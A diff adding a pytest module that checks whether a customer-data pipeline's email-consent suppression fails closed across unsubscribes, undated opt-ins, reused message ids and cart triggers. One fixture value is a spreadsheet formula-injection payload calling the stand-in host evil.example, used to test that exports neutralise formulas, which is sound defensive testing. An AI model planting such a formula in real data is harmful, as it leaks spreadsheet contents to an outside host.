@@ -1,0 +1,349 @@
+"""Consent fails closed: every route by which a suppressed person once reached the activation marts.
+
+One warehouse for the module: the demo is loaded and built, then hostile-but-plausible source changes are
+made for distinct customers of the email audience — an opt-in with a blank or garbled form timestamp after
+an unsubscribe, a Shopify "subscribed" without a consent time after a HubSpot opt-out, a consent time in
+2099, an unsubscribe sent without any Segment id, a messageId reused by a later event (both orders), an
+unsubscribe of someone with a logged cart trigger, a formula in a first name — and loaded with dlt.
+
+The audience and the triggers are checked twice: right after the load, *before any dbt build* (the
+suppression guard reads the raw tables live, so a failed or missing build cannot keep a newly suppressed
+person sendable), and after the build, where the consent ledger itself must also say "unsubscribed".
+Last, the ledger is broken on purpose (opted_out made sendable) to prove the independent guard still
+withholds those people and the agreement test fails.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import shutil
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from test_marts import load_sources, query, read_jsonl, segment_message, write_jsonl
+
+pytestmark = pytest.mark.slow
+
+# Every change is dated shortly before the load, as real activity would be.
+NOW = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Hi")'
+EXPORT_TEXT_COLUMNS = {
+    "email_audience": [
+        "first_name", "preferred_category", "recommended_category", "last_viewed_product_id",
+        "last_viewed_product_title", "last_viewed_category",
+    ],
+    "cart_abandonment_triggers": [
+        "first_name", "last_added_product_id", "last_added_product_title", "last_added_category",
+        "recommended_category",
+    ],
+}  # fmt: skip
+
+
+def iso(moment: datetime) -> str:
+    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+@dataclass
+class Scenario:
+    """A customer in the audience before the change, and the email the change is about."""
+
+    customer_id: str
+    email: str
+
+
+@dataclass
+class ConsentRun:
+    routes: dict[str, Scenario] = field(default_factory=dict)
+    audience_before: set[str] = field(default_factory=set)
+    audience_unbuilt: set[str] = field(default_factory=set)
+    triggers_unbuilt: set[str] = field(default_factory=set)
+    trigger_customer: str = ""
+    build_failures: list[str] = field(default_factory=list)
+    broken_ledger_failures: list[str] = field(default_factory=list)
+    broken_ledger_sendable: set[str] = field(default_factory=set)
+    broken_ledger_audience: set[str] = field(default_factory=set)
+
+
+def audience() -> set[str]:
+    return {r[0] for r in query("select customer_id from marts.email_audience")}
+
+
+def ledger_reason(customer_id: str, email: str) -> str | None:
+    rows = query(
+        "select not_sendable_reason from intermediate.int_customers__email_consent where customer_id = ? and email = ?",
+        [customer_id, email],
+    )
+    assert rows, f"no consent row for {customer_id} / {email}"
+    return rows[0][0]
+
+
+def pick_audience_customers(count: int, *, with_shopify_account: bool, taken: set[str]) -> list[Scenario]:
+    """Distinct audience customers whose golden email has an explicit consent (optionally from a Shopify account)."""
+    shopify = (
+        """inner join staging.stg_shopify__customers as s on a.email = s.email
+           inner join marts.customer_identities as i
+             on i.source_system = 'shopify' and i.source_record_id = s.source_record_id and i.customer_id = a.customer_id"""
+        if with_shopify_account
+        else ""
+    )
+    rows = query(
+        f"""select distinct a.customer_id, a.email from marts.email_audience as a {shopify}
+            where a.email_consent_basis = 'explicit' order by a.customer_id"""
+    )
+    chosen = [Scenario(c, e) for c, e in rows if c not in taken][:count]
+    assert len(chosen) == count, "the demo data has too few candidates"
+    taken.update(s.customer_id for s in chosen)
+    return chosen
+
+
+def unsubscribe(email: str | None, at: datetime, **fields: Any) -> dict[str, Any]:
+    properties = {"email_address": email, "list_id": "newsletter"} if email else {"list_id": "newsletter"}
+    message = segment_message("track", str(uuid.uuid4()), at, event="Email Unsubscribed", properties=properties)
+    message.update(fields)
+    return message
+
+
+def signup_row(submission_id: str, email: str, submitted_at: str) -> dict[str, str]:
+    return {
+        "submission_id": submission_id, "submitted_at": submitted_at, "form_name": "newsletter_footer",
+        "email_address": email, "given_name": "", "family_name": "", "mobile": "", "postcode": "", "country": "",
+        "dob": "", "marketing_opt_in": "yes",
+    }  # fmt: skip
+
+
+def apply_changes(data: Path, run: ConsentRun) -> None:
+    taken: set[str] = set()
+    blank, garbled, idless, reused_first, reused_second, fresh = pick_audience_customers(
+        6, with_shopify_account=False, taken=taken
+    )
+    shopify_undated, shopify_future = pick_audience_customers(2, with_shopify_account=True, taken=taken)
+    trigger = query(
+        "select customer_id, email from marts.cart_abandonment_triggers order by customer_id limit 1"
+    )
+    assert trigger, "the demo emitted no cart trigger"
+    run.trigger_customer = trigger[0][0]
+    taken.add(run.trigger_customer)
+    formula_customer = query(
+        """select customer_id, name_source_record_id from marts.customers
+           where name_source_system = 'hubspot' and source_record_count = 1
+             and customer_id in (select customer_id from marts.email_audience) order by customer_id"""
+    )
+    formula_customer = next(r for r in formula_customer if r[0] not in taken)
+    run.routes = {
+        "blank_signup_timestamp": blank,
+        "garbled_signup_timestamp": garbled,
+        "shopify_subscribed_without_consent_time": shopify_undated,
+        "consent_time_in_2099": shopify_future,
+        "unsubscribe_without_segment_ids": idless,
+        "reused_message_id_after_unsubscribe": reused_first,
+        "reused_message_id_before_unsubscribe": reused_second,
+        "unsubscribe_loaded_without_rebuild": fresh,
+        "unsubscribe_after_cart_trigger": Scenario(trigger[0][0], trigger[0][1]),
+    }
+
+    messages: list[dict[str, Any]] = []
+    # 1-2. An unsubscribe three hours ago, then a form opt-in whose submitted_at is blank / unreadable.
+    for scenario in (blank, garbled):
+        messages.append(unsubscribe(scenario.email, NOW - timedelta(hours=3)))
+    signups = [
+        signup_row("sub_hostile_blank", blank.email, ""),
+        signup_row("sub_hostile_garbled", garbled.email, "31/31/2026 25:61"),
+    ]
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(signups[0]), lineterminator="\n")
+    writer.writeheader()
+    writer.writerows(signups)
+    (data / "csv_contacts" / "signup_forms" / "signups_hostile.csv").write_text(buffer.getvalue())
+
+    # 3. A HubSpot opt-out two hours ago; then Shopify reports "subscribed" with no consent time (only the
+    #    account's updated_at is later).  4. Shopify "subscribed" dated 2099, then an unsubscribe an hour ago.
+    contacts_path = data / "hubspot" / "contacts.jsonl"
+    contacts = read_jsonl(contacts_path)
+    template = json.loads(json.dumps(contacts[0]))
+    new_id = str(max(int(c["id"]) for c in contacts) + 1)
+    stamp = NOW - timedelta(hours=2)
+    template.update(id=new_id, createdAt=iso(stamp), updatedAt=iso(stamp))
+    template["properties"] = {
+        **{key: None for key in template["properties"]},
+        "hs_object_id": new_id, "email": shopify_undated.email, "hs_email_optout": "true",
+        "createdate": iso(stamp), "lastmodifieddate": iso(stamp),
+    }  # fmt: skip
+    contacts.append(template)
+    # 8. A formula in the first name of a customer whose golden name comes from HubSpot.
+    for contact in contacts:
+        if contact["id"] == formula_customer[1]:
+            contact["properties"]["firstname"] = FORMULA_NAME
+            contact["properties"]["lastmodifieddate"] = contact["updatedAt"] = iso(NOW - timedelta(minutes=30))
+    write_jsonl(contacts_path, contacts)
+    run.routes["formula_first_name"] = Scenario(formula_customer[0], "")
+
+    customers_path = data / "shopify" / "customers.jsonl"
+    accounts = read_jsonl(customers_path)
+    for account in accounts:
+        if account["email"] and account["email"].strip().lower() == shopify_undated.email:
+            account["email_marketing_consent"].update(state="subscribed", consent_updated_at=None)
+            account["updated_at"] = iso(NOW - timedelta(minutes=5))
+        if account["email"] and account["email"].strip().lower() == shopify_future.email:
+            account["email_marketing_consent"].update(state="subscribed", consent_updated_at="2099-01-01T00:00:00Z")
+            account["updated_at"] = iso(NOW - timedelta(minutes=5))
+    write_jsonl(customers_path, accounts)
+    messages.append(unsubscribe(shopify_future.email, NOW - timedelta(hours=1)))
+
+    # 5. An unsubscribe with neither anonymousId nor userId: the address only in context.traits.
+    messages.append(
+        unsubscribe(None, NOW - timedelta(hours=1), anonymousId=None, userId=None,
+                    context={"traits": {"email": idless.email}, "library": {"name": "analytics-node"}})
+    )  # fmt: skip
+    # 6. A later event reusing an unsubscribe's messageId (in a later file) — and the other order.
+    first = unsubscribe(reused_first.email, NOW - timedelta(hours=4))
+    later_page = segment_message("page", str(uuid.uuid4()), NOW - timedelta(hours=2), name="Home")
+    later_page["messageId"] = first["messageId"]
+    early_page = segment_message("page", str(uuid.uuid4()), NOW - timedelta(hours=4), name="Home")
+    later_unsubscribe = unsubscribe(reused_second.email, NOW - timedelta(hours=2))
+    later_unsubscribe["messageId"] = early_page["messageId"]
+    # 7. A plain unsubscribe, checked before any build; 9. the person behind a logged cart trigger.
+    messages.append(unsubscribe(fresh.email, NOW - timedelta(hours=1)))
+    messages.append(unsubscribe(run.routes["unsubscribe_after_cart_trigger"].email, NOW - timedelta(hours=1)))
+
+    day = NOW.strftime("%Y-%m-%d")
+    write_jsonl(data / "segment" / day / "events-8001.jsonl", [*messages, first, early_page])
+    write_jsonl(data / "segment" / day / "events-8002.jsonl", [later_page, later_unsubscribe])
+
+
+@pytest.fixture(scope="module")
+def consent_run(demo_data: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsentRun]:
+    from ingestion.dbt_runner import run_dbt
+
+    root = tmp_path_factory.mktemp("consent")
+    data = root / "data"
+    shutil.copytree(demo_data, data)
+    run = ConsentRun()
+    with pytest.MonkeyPatch.context() as env:
+        env.setenv("CUSTOMER360_DUCKDB_PATH", str(root / "warehouse.duckdb"))
+        env.setenv("CUSTOMER360_PIPELINES_DIR", str(root / "dlt_pipelines"))
+        env.setenv("DLT_DATA_DIR", str(root / "dlt_data"))
+        env.setenv("RUNTIME__DLTHUB_TELEMETRY", "false")
+        load_sources(data, ("hubspot", "shopify", "segment", "csv_contacts"), env)
+        first = run_dbt(["build"])
+        assert first.success, f"first dbt build failed: {first.failures}"
+        run.audience_before = audience()
+
+        apply_changes(data, run)
+        load_sources(data, ("hubspot", "shopify", "segment", "csv_contacts"), env)
+        run.audience_unbuilt = audience()  # no dbt build since the load
+        run.triggers_unbuilt = {r[0] for r in query("select customer_id from marts.cart_abandonment_triggers")}
+
+        second = run_dbt(["build"])
+        run.build_failures = list(second.failures)
+
+        # A wrong ledger: opted-out addresses made sendable. The guard must still withhold them.
+        broken_vars = "{sendable_consent_states: [opted_in, opted_out]}"
+        broken = run_dbt(
+            ["build", "--vars", broken_vars, "--select", "int_customers__email_consent", "consent_ledger_agrees_with_guard"]
+        )
+        run.broken_ledger_failures = list(broken.failures)
+        run.broken_ledger_sendable = {
+            r[0]
+            for r in query(
+                "select customer_id from intermediate.int_customers__email_consent "
+                "where is_email_sendable and consent_state = 'opted_out'"
+            )
+        }
+        run.broken_ledger_audience = audience()
+        restored = run_dbt(["build", "--select", "int_customers__email_consent"])
+        assert restored.success, restored.failures
+        yield run
+
+
+ROUTES_THE_LEDGER_DECIDES = [
+    "blank_signup_timestamp",
+    "garbled_signup_timestamp",
+    "shopify_subscribed_without_consent_time",
+    "consent_time_in_2099",
+    "unsubscribe_without_segment_ids",
+    "reused_message_id_after_unsubscribe",
+    "unsubscribe_loaded_without_rebuild",
+    "unsubscribe_after_cart_trigger",
+]
+
+
+def test_second_build_passes_every_consent_check(consent_run: ConsentRun) -> None:
+    assert consent_run.build_failures == [], "\n".join(consent_run.build_failures)
+
+
+@pytest.mark.parametrize("route", ROUTES_THE_LEDGER_DECIDES)
+def test_route_is_suppressed_by_the_ledger(consent_run: ConsentRun, route: str) -> None:
+    scenario = consent_run.routes[route]
+    assert scenario.customer_id in consent_run.audience_before
+    assert ledger_reason(scenario.customer_id, scenario.email) == "unsubscribed", route
+
+
+@pytest.mark.parametrize("route", [*ROUTES_THE_LEDGER_DECIDES, "reused_message_id_before_unsubscribe"])
+def test_route_is_out_of_the_audience(consent_run: ConsentRun, route: str) -> None:
+    scenario = consent_run.routes[route]
+    assert scenario.customer_id in consent_run.audience_before
+    assert scenario.customer_id not in audience(), route
+
+
+@pytest.mark.parametrize("route", [*ROUTES_THE_LEDGER_DECIDES, "reused_message_id_before_unsubscribe"])
+def test_route_is_out_of_the_audience_before_any_rebuild(consent_run: ConsentRun, route: str) -> None:
+    """The guard reads the raw tables live: a load with no (or a failed) build already suppresses."""
+    assert consent_run.routes[route].customer_id not in consent_run.audience_unbuilt, route
+
+
+def test_reused_message_id_keeps_both_copies(consent_run: ConsentRun) -> None:
+    """A messageId collision with different content never silently drops a copy."""
+    rows = query(
+        "select count(*) from raw_segment.rejected_events where reason ilike '%messageid%' and raw_text ilike '%Email Unsubscribed%'"
+    )
+    assert rows[0][0] >= 1
+    kept = query(
+        "select event from raw_segment.events where message_id in "
+        "(select message_id from raw_segment.events where event = 'Email Unsubscribed')"
+    )
+    assert kept
+
+
+def test_cart_trigger_is_rechecked_after_unsubscribe(consent_run: ConsentRun) -> None:
+    customer = consent_run.trigger_customer
+    logged = query("select count(*) from marts.cart_abandonment_trigger_log where customer_id = ?", [customer])
+    assert logged[0][0] >= 1, "the trigger log lost the emitted trigger"
+    assert customer not in consent_run.triggers_unbuilt
+    assert query("select count(*) from marts.cart_abandonment_triggers where customer_id = ?", [customer])[0][0] == 0
+
+
+def test_formula_values_are_neutralised_in_exports(consent_run: ConsentRun) -> None:
+    customer = consent_run.routes["formula_first_name"].customer_id
+    (first_name,) = query("select first_name from marts.email_audience where customer_id = ?", [customer])[0]
+    # names are normalized (case), but the formula must arrive quoted, as text
+    assert first_name.lower() == "'" + FORMULA_NAME.lower()
+    for view, columns in EXPORT_TEXT_COLUMNS.items():
+        for column in columns:
+            leading = query(f"select count(*) from marts.{view} where regexp_matches({column}, '^\\s*[=+@-]')")
+            assert leading[0][0] == 0, f"{view}.{column} exports a formula"
+
+
+def test_undated_opt_ins_are_recorded_not_dropped(consent_run: ConsentRun) -> None:
+    blank = consent_run.routes["blank_signup_timestamp"]
+    rows = query(
+        "select signal_dated_by, signal_at from marts.email_consent "
+        "where source_record_id = 'sub_hostile_blank' and consent_state = 'opted_in'"
+    )
+    assert rows and all(dated_by == "undated" and at is None for dated_by, at in rows), rows
+    assert blank.customer_id
+
+
+def test_guard_withholds_people_a_broken_ledger_would_send(consent_run: ConsentRun) -> None:
+    """A wrong ledger rule is caught by the independent guard, and the audience stays safe."""
+    assert any("consent_ledger_agrees_with_guard" in failure for failure in consent_run.broken_ledger_failures), (
+        consent_run.broken_ledger_failures
+    )
+    assert consent_run.broken_ledger_sendable, "the broken rule made nobody sendable: the test proves nothing"
+    assert not (consent_run.broken_ledger_sendable & consent_run.broken_ledger_audience)
